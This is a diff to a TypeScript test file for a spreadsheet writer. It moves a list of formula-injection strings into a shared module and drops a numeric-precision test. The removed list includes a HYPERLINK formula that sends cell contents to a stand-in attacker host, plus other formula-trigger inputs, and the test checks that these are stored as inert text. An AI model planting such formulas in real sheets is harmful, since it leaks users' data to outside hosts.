@@ -1,6 +1,7 @@
 // Days, numbers and text as written to the sheet, in every zone and locale.
 
 import { googleWorld } from '../world/google-world';
+import { HOSTILE_TEXTS } from '../world/hostile-texts';
 import { NEW_DATA, writeTable } from '../world/written-table';
 import { cell, typed } from './typed-table';
 
@@ -39,52 +40,11 @@ describe('days and numbers', () => {
       expect([cell(world, 2, 1).value, cell(world, 3, 1).value]).toEqual([46_345, 46_345 - 264 - 730]);
     },
   );
-
-  test('are exact, from the smallest number to the largest safe integer', () => {
-    const numbers = [0.1 + 0.2, 1e-7, 12_345_678.905, 5e-324, Number.MAX_SAFE_INTEGER, 0];
-    const world = googleWorld({ timeZone: 'Etc/UTC', locale: 'de_DE' });
-    writeTable(world, typed(...numbers.map((value) => ['2026-11-19', 'x', 1, value, value])), NEW_DATA);
-    numbers.forEach((value, i) => {
-      expect([cell(world, i + 2, 4).value, cell(world, i + 2, 5).value]).toEqual([value, value]);
-    });
-  });
 });
 
 describe('text in a block', () => {
-  const HOSTILE = [
-    '=HYPERLINK("https://evil.example/?"&A1,"x")',
-    '=1+1',
-    '=',
-    '+1',
-    '+SUM(A1)',
-    '-1',
-    '-',
-    '@SUM(A1)',
-    "'quoted'",
-    "''",
-    '00123',
-    'May 5',
-    '5.5.2026',
-    '2026-11-19',
-    '11:30',
-    'TRUE',
-    'false',
-    '1e5',
-    '1400000001',
-    '1,5',
-    '1.5',
-    '10%',
-    '$5',
-    '€ 5',
-    ' =1',
-    '\t=1',
-    '\n=1',
-    '#REF!',
-    '1/2',
-    '(5)',
-    '😀',
-    'x'.repeat(50_000),
-  ];
+  const HOSTILE = [...HOSTILE_TEXTS, 'x'.repeat(50_000)];
+
   test.each(['en_US', 'de_DE'])('reads back exactly, as text and with no formula, in %s', (locale) => {
     const world = googleWorld({ timeZone: 'Etc/UTC', locale });
     const table = typed(...HOSTILE.map((name, i) => ['2026-11-19', name, i, 0, 0]));
